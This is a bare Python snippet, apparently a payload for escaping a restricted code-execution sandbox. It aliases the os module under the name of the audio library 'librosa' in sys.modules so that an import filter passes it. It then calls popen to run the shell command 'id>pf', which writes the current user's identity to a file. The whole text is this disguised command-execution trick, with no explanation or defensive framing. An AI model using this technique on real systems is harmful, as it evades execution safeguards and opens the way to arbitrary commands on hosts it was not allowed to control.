import sys, os
sys.modules |= {"librosa": os}
from librosa import popen
popen("id>pf").read()
